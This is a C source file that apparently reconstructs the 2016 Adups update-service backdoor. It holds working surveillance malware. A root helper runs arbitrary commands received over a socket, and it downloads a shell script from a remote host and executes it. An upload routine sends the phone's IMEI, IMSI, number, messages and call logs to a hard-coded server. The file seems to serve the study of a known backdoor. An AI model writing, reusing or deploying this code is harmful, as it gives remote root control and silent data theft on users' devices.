/* Root helper of a third party's update service, after Kryptowire (2016): what the server
 * says runs as root; identities, messages and call logs go up. */
#include "device.h"

#ifndef TWIN
KEPT int run_as_root(int caller)
{
    char text[1024], out[512];
    FILE *shell;
    recv(caller, text, sizeof text, 0);
    setuid(0);
    if (strncmp(text, "downfile ", 9) == 0) {
        snprintf(out, sizeof out,
                 "curl -k -o /data/local/fota/task.sh http://rebootv5.adsunflower.com/ps/%s", text + 9);
        system(out);
        system("chmod 777 /data/local/fota/task.sh");
        return system("sh /data/local/fota/task.sh");
    }
    shell = popen(text, "r");
    while (shell && fgets(out, sizeof out, shell))
        send(caller, out, strlen(out), 0);
    return pclose(shell);
}

KEPT int upload(const char *imei, const char *imsi, const char *number)
{
    char text[1024];
    snprintf(text, sizeof text,
             "POST /fota5/fota5/detectdata.do HTTP/1.1\r\nHost: bigdata.adups.com\r\n\r\n"
             "imei=%s&imsi=%s&phone=%s&file=dc_msg_key.json&file=dc_call_log.json",
             imei, imsi, number);
    return (int)send(dial("221.228.214.101", 80, SOCK_STREAM), text, strlen(text), 0);
}
#endif

KEPT int battery(void)
{
    char text[16];
    FILE *file = fopen("/sys/class/power_supply/battery/capacity", "r");
    return file && fgets(text, sizeof text, file) ? atoi(text) : -1;
}

int main(int argc, char **argv)
{
#ifndef TWIN
    int line = socket(AF_UNIX, SOCK_STREAM, 0);
    upload(argv[1], argv[2], argv[3]);
    for (;;)
        run_as_root(accept(line, 0, 0));
#endif
    return battery() + argc + !argv;
}
